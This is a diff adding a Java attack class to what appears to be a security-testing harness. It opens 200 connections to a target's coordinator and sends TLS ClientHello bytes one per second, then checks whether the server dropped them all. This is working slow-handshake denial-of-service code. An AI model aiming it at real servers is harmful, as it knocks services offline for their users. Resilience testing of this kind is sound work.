@@ -1,0 +1,83 @@
+package dev.parallax.attack.stranger;
+
+import dev.parallax.attack.Attack;
+import dev.parallax.attack.Evidence;
+import dev.parallax.attack.Finding;
+import dev.parallax.attack.Installation;
+import java.io.IOException;
+import java.net.Socket;
+import java.util.ArrayList;
+import java.util.List;
+
+/** 200 connections that send a ClientHello one byte a second. */
+public final class SlowHandshakes implements Attack {
+  private static final int CONNECTIONS = 200;
+
+  /** Handshake record of 512 bytes, ClientHello, TLS 1.2 as its legacy version. */
+  private static final byte[] START = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};
+
+  private final List<Socket> sockets = new ArrayList<>();
+  private int cut;
+  private long seconds;
+
+  @Override
+  public String name() {
+    return "stranger/slow-tls";
+  }
+
+  @Override
+  public String launch(Installation at) throws InterruptedException {
+    long started = System.nanoTime();
+    long end = at.end();
+    for (int i = 0; i < CONNECTIONS; i++) {
+      try {
+        var socket = new Socket();
+        socket.bind(Strangers.SOURCE);
+        socket.connect(at.coordinatorAddress(), 2_000);
+        socket.setSoTimeout(1);
+        sockets.add(socket);
+      } catch (IOException refused) {
+        cut++;
+      }
+    }
+    for (int at0 = 0; !sockets.isEmpty() && System.nanoTime() < end; at0++) {
+      drip(at0);
+      Thread.sleep(1_000);
+    }
+    seconds = (System.nanoTime() - started) / 1_000_000_000;
+    return CONNECTIONS + " TLS handshakes, a byte a second";
+  }
+
+  private void drip(int position) {
+    for (var socket : List.copyOf(sockets)) {
+      try {
+        socket.getOutputStream().write(position < START.length ? START[position] : 0);
+        if (socket.getInputStream().read() < 0) {
+          throw new IOException("closed by the server");
+        }
+      } catch (java.net.SocketTimeoutException open) {
+        // The server still waits.
+      } catch (IOException closed) {
+        cut++;
+        sockets.remove(socket);
+      }
+    }
+  }
+
+  @Override
+  public Finding judge(Evidence evidence) {
+    return Finding.of(
+        cut == CONNECTIONS, "%d of %d cut within %d s".formatted(cut, CONNECTIONS, seconds));
+  }
+
+  @Override
+  public void close() {
+    for (var socket : sockets) {
+      try {
+        socket.close();
+      } catch (IOException closed) {
+        // It was to be closed.
+      }
+    }
+  }
+}
